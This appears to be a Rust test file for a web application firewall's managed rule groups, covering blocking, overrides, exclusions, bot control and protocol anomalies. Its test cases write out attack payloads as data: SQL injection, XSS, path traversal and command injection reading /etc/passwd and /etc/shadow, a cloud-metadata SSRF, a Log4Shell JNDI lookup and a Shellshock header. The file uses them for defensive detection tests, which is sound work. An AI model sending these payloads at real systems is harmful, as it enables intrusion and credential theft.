// Tests may unwrap: a panic is the failure report.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use super::{fold_path, FieldRef};
use crate::testutil::view;
use crate::{compile, Outcome, RequestView, WebAclConfig};

/// A web ACL with the two groups, as a user would write it, with `extra` YAML in the core
/// group's reference.
fn acl(extra: &str) -> crate::WebAcl {
    let yaml = format!(
        "name: t\ndefault_action: allow\nrules:\n  - name: bad\n    priority: 1\n    statement:\n      managed_rule_group: {{name: known_bad_inputs}}\n  - name: core\n    priority: 2\n    statement:\n      managed_rule_group:\n        name: core\n{extra}\n"
    );
    let cfg: WebAclConfig = serde_yaml_ng::from_str(&yaml).unwrap();
    let mut issues = Vec::new();
    let acl = compile(&cfg, "web_acls[0]", &mut issues);
    assert!(issues.is_empty(), "{issues:?}");
    acl.unwrap()
}

fn blocked_by<'a>(acl: &'a crate::WebAcl, v: &RequestView<'_>) -> Option<&'a str> {
    let verdict = acl.evaluate(v);
    matches!(verdict.outcome, Outcome::Block(_)).then_some(verdict.terminating_rule).flatten()
}

#[test]
fn pattern_rules_fit_the_scan_bits() {
    assert!(super::pattern_rules().count() <= super::CLASSES_SHIFT as usize);
}

#[test]
fn every_built_in_pattern_set_compiles() {
    for group in super::GROUPS {
        for rule in group.rules {
            if let super::Detector::Patterns(set, _) = rule.detector {
                assert!(!set.is_empty(), "{}:{}", group.name, rule.name);
            }
        }
    }
}

/// A query, headers, and the rule that should block them.
type Case = (&'static [u8], &'static [(&'static str, &'static [u8])], &'static str);

#[test]
fn each_class_is_caught_where_it_arrives() {
    let acl = acl("");
    let cases: [Case; 12] = [
        (b"id=1%27%20OR%20%271%27%3D%271", &[], "core:SQLi"),
        (b"id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL--", &[], "core:SQLi"),
        (b"", &[("x-comment", b"<svg/onload=alert(1)>")], "core:XSS"),
        (b"f=..%252f..%252fetc%252fpasswd", &[], "core:PathTraversal"),
        (b"f=%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini", &[], "core:PathTraversal"),
        (b"host=127.0.0.1%3Bcat%20%2Fetc%2Fshadow", &[], "core:PathTraversal"),
        (b"host=127.0.0.1%7Cwhoami", &[], "core:CommandInjection"),
        (b"u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", &[], "core:SSRF_Metadata"),
        (b"name=%7B%7B7*7%7D%7D", &[], "core:TemplateInjection"),
        (b"", &[("cookie", b"pref=eyJhIjoiPHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0PiJ9")], "core:XSS"),
        (b"", &[("x-api-version", b"${jndi:ldap://e.example/a}")], "bad:Log4JRCE"),
        (b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", &[], "bad:Spring4ShellRCE"),
    ];
    for (query, headers, rule) in cases {
        let v = view(query, headers);
        assert_eq!(blocked_by(&acl, &v), Some(rule), "{:?} {headers:?}", String::from_utf8_lossy(query));
    }
}

#[test]
fn ordinary_traffic_passes() {
    let acl = acl("");
    let chrome: &[(&str, &[u8])] = &[
        (
            "user-agent",
            b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
        ),
        ("accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("sec-ch-ua", b"\"Chromium\";v=\"130\", \"Not?A_Brand\";v=\"99\""),
        ("authorization", b"Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl"),
        ("cookie", b"session=Zm9vYmFyYmF6cXV4; theme=dark"),
    ];
    for query in [
        b"q=O%27Brien%27s+pub&page=2".as_slice(),
        b"search=select+a+good+book+from+the+shelf",
        b"next=https%3A%2F%2Fexample.com%2Fa%3Fb%3D1",
        b"msg=Tom+%26+Jerry+%3C3",
        b"expr=price+%3E+10+and+price+%3C+20",
    ] {
        let v = view(query, chrome);
        assert_eq!(blocked_by(&acl, &v), None, "{}", String::from_utf8_lossy(query));
    }
}

#[test]
fn overrides_count_instead_and_label_the_request() {
    let acl = acl("        rule_action_overrides:\n          - {name: SQLi, action: count}");
    let v = view(b"id=1%27%20OR%20%271%27%3D%271", &[]);
    let verdict = acl.evaluate(&v);
    assert_eq!(verdict.outcome, Outcome::Allow);
    assert_eq!(verdict.counted, vec!["core:SQLi"]);
    assert!(verdict.labels.contains(&"portcullis:managed:core:SQLi".to_owned()), "{:?}", verdict.labels);
}

#[test]
fn exclusions_skip_a_field_or_a_route() {
    let by_field = acl("        exclusions:\n          - {rules: [XSS], fields: ['query:html']}");
    let html = view(b"html=%3Cscript%3Ealert(1)%3C%2Fscript%3E", &[]);
    assert_eq!(blocked_by(&by_field, &html), None);
    let other = view(b"text=%3Cscript%3Ealert(1)%3C%2Fscript%3E", &[]);
    assert_eq!(blocked_by(&by_field, &other), Some("core:XSS"), "only the named field is excluded");

    let by_route = acl("        exclusions:\n          - {routes: ['POST /posts']}");
    let on_route = RequestView { route: Some("POST /posts"), ..html.clone() };
    assert_eq!(blocked_by(&by_route, &on_route), None);
    let elsewhere = RequestView { route: Some("GET /posts"), ..html };
    assert_eq!(blocked_by(&by_route, &elsewhere), Some("core:XSS"));
}

#[test]
fn a_json_pointer_exclusion_covers_what_is_under_it() {
    let f = FieldRef::parse("body:/post").unwrap();
    let input = |name: &'static str| crate::inputs::Input {
        part: crate::inputs::Part::Body,
        name: name.into(),
        views: Default::default(),
    };
    assert!(f.covers(&input("/post")));
    assert!(f.covers(&input("/post/html")));
    assert!(!f.covers(&input("/poster")));
    assert!(FieldRef::parse("path:x").is_err());
    assert!(FieldRef::parse("nowhere:x").is_err());
}

#[test]
fn high_sensitivity_adds_rules_and_patterns() {
    let low = acl("");
    let high = acl("        sensitivity: high");
    let v = view(b"cb=alert(1)", &[]);
    assert_eq!(blocked_by(&low, &v), None);
    assert_eq!(blocked_by(&high, &v), Some("core:XSS"));
    assert!(high.rules().len() > low.rules().len());
}

#[test]
fn a_scope_down_statement_limits_the_group() {
    let acl = acl(
        "        scope_down_statement:\n          byte_match: {field: uri_path, position: starts_with, search: /api}",
    );
    let outside = view(b"id=1%27%20OR%20%271%27%3D%271", &[]);
    assert_eq!(blocked_by(&acl, &outside), None, "the path is /");
    let inside = RequestView { path: b"/api/x", ..outside };
    assert_eq!(blocked_by(&acl, &inside), Some("core:SQLi"));
}

#[test]
fn path_fold_undoes_the_spellings_of_dot_and_slash() {
    assert_eq!(fold_path(b"\xc0\xae\xc0\xae\xc0\xaf"), b"../");
    assert_eq!(fold_path(b"0x2e0x2e0x5cetc"), b"../etc");
    assert_eq!(fold_path("\u{ff0e}\u{ff0e}\u{2215}x".as_bytes()), b"../x");
    assert_eq!(fold_path(b"..\xc1%pcetc"), b"../etc", "a broken sequence and a bad escape");
    assert_eq!(fold_path(b"A\0B\\C"), b"AB/C");
    assert_eq!(fold_path("caf\u{e9}".as_bytes()), b"caf", "other characters are dropped");
}

#[test]
fn bot_control_labels_and_blocks_only_spoofed_engines() {
    let yaml = "name: t-bots\ndefault_action: allow\nrules:\n  - name: b\n    priority: 1\n    statement: {managed_rule_group: {name: bot_control}}\n";
    let cfg: WebAclConfig = serde_yaml_ng::from_str(yaml).unwrap();
    let acl = compile(&cfg, "web_acls[0]", &mut Vec::new()).unwrap();
    let labels = |v: &RequestView<'_>| acl.evaluate(v).labels;
    let ns = "portcullis:managed:bot_control:";
    assert_eq!(labels(&view(b"", &[])), vec![format!("{ns}SignalNoUserAgent")]);
    assert_eq!(
        labels(&view(b"", &[("user-agent", b"python-requests/2.31")])),
        vec![format!("{ns}CategoryHttpLibrary")]
    );
    let google: &[(&str, &[u8])] = &[("user-agent", b"Googlebot/2.1 (+http://www.google.com/bot.html)")];
    assert_eq!(
        acl.bot_domains(google[0].1),
        Some(vec!["googlebot.com".into(), "google.com".into(), "googleusercontent.com".into()])
    );
    let unknown = view(b"", google);
    assert_eq!(acl.evaluate(&unknown).outcome, Outcome::Allow, "not looked up: not spoofed");
    let spoofed = RequestView { bot_verified: Some(false), ..view(b"", google) };
    assert_eq!(acl.evaluate(&spoofed).terminating_rule, Some("b:SignalSpoofedBot"));
    let verified = RequestView { bot_verified: Some(true), ..view(b"", google) };
    assert!(labels(&verified).contains(&format!("{ns}VerifiedBot")));
    assert_eq!(acl.bot_domains(b"curl/8"), None);
}

#[test]
fn clean_header_values_are_learned_and_attacks_never_are() {
    let low = acl("");
    let high = acl("        sensitivity: high");
    let clean: &[u8] = b"Mozilla/5.0 (a header value only this test sends)";
    assert!(!super::known_clean_header(clean));
    assert_eq!(blocked_by(&low, &view(b"", &[("user-agent", clean)])), None);
    assert!(super::known_clean_header(clean), "learned on first sight");
    assert_eq!(blocked_by(&low, &view(b"", &[("user-agent", clean)])), None);
    // Values that some rule matches, at any sensitivity, are inspected every time.
    for (value, rule) in [
        (&b"() { :; }; echo; /bin/cat /etc/passwd"[..], Some("bad:Shellshock")),
        (b"${jndi:ldap://e.example/a}", Some("bad:Log4JRCE")),
        (b"<svg/onload=alert(1)>", Some("core:XSS")),
        // Only the high-sensitivity XSS patterns see this one: it passes here, but no ACL
        // may skip it.
        (b"width: expression(go)", None),
    ] {
        for _ in 0..2 {
            assert_eq!(blocked_by(&low, &view(b"", &[("x-test", value)])), rule, "{}", value.escape_ascii());
        }
        assert!(!super::known_clean_header(value), "{}", value.escape_ascii());
    }
    assert_eq!(blocked_by(&high, &view(b"", &[("x-test", b"width: expression(go)")])), Some("core:XSS"));
}

#[test]
fn every_rule_over_headers_is_one_the_clean_header_memo_knows() {
    // `learn_clean_headers` knows the scan's patterns and the SQLi and XSS detectors, and bot
    // and protocol rules read the request's headers, not the inputs; a header rule of another
    // kind would need it to learn more.
    for rule in super::GROUPS.iter().flat_map(|g| g.rules.iter()).filter(|r| r.parts.contains(&super::Part::Header)) {
        assert!(
            matches!(
                rule.detector,
                super::Detector::Patterns(..)
                    | super::Detector::Sqli
                    | super::Detector::Xss
                    | super::Detector::Bot(_)
                    | super::Detector::Protocol(_)
            ),
            "{}",
            rule.name
        );
    }
}

/// The scan looks at all views of a request joined first, and view by view only when that
/// finds something: it must find what each view alone gives, anchored patterns included.
#[test]
fn the_joined_scan_finds_what_each_view_alone_finds() {
    use std::borrow::Cow;

    use crate::inputs::{Input, Part};

    let attacks: [&[u8]; 12] = [
        b"etc/passwd",
        b"c:/windows/win.ini",
        b"$ne",
        b" $where ",
        b"php://filter/resource=x",
        b"..",
        b"/.env",
        b"cat /etc/shadow",
        b"*)(uid=*",
        b"<!doctype x [",
        b"a\r\nbcc: x@example.com",
        b"1 union all select 2",
    ];
    let input = |value: &'static [u8]| Input {
        part: Part::Query,
        name: Cow::Borrowed("q"),
        views: smallvec::smallvec![Cow::Borrowed(value)],
    };
    let scanner = &*super::SCANNER;
    let alone = |value: &[u8]| {
        let classes = crate::classes::Classes::of(value);
        let mut bits = scanner.raw.bits(value) | u64::from(classes.0) << super::CLASSES_SHIFT;
        for (fold, pass) in &scanner.folded {
            if let Cow::Owned(folded) = fold.apply(value, classes) {
                bits |= pass.bits(&folded);
            }
        }
        bits
    };
    for attack in attacks {
        assert_ne!(alone(attack) & !(0xff << super::CLASSES_SHIFT), 0, "{} matches alone", attack.escape_ascii());
        let inputs = [input(b"first value\nwith a line"), input(attack), input(b"last")];
        let scanned = super::scan(&inputs);
        assert_eq!(scanned, inputs.iter().map(|i| alone(&i.views[0])).collect::<Vec<_>>(), "{}", attack.escape_ascii());
    }
}

#[test]
fn protocol_anomalies_block_through_the_group() {
    let all = acl("");
    let get_with_body = RequestView { method: "GET", ..crate::testutil::with_body(b"smuggled", false) };
    assert_eq!(blocked_by(&all, &get_with_body), Some("core:ProtocolAnomaly_BodyOnGetOrHead"));
    let two_types = view(b"", &[("content-type", b"text/plain"), ("content-type", b"application/json")]);
    assert_eq!(blocked_by(&all, &two_types), Some("core:ProtocolAnomaly_MultipleContentType"));
    assert_eq!(blocked_by(&all, &view(b"q=%%35%%63", &[])), Some("core:ProtocolAnomaly_InvalidUrlEncoding"));
    assert_eq!(blocked_by(&all, &view(b"", &[("range", b"bytes=9-1")])), Some("core:ProtocolAnomaly_InvalidRange"));
    // Excluded per route like any other rule.
    let excluded = acl("        exclusions:\n          - {rules: [ProtocolAnomaly_InvalidUrlEncoding]}");
    assert_eq!(blocked_by(&excluded, &view(b"q=100%", &[])), None);
}
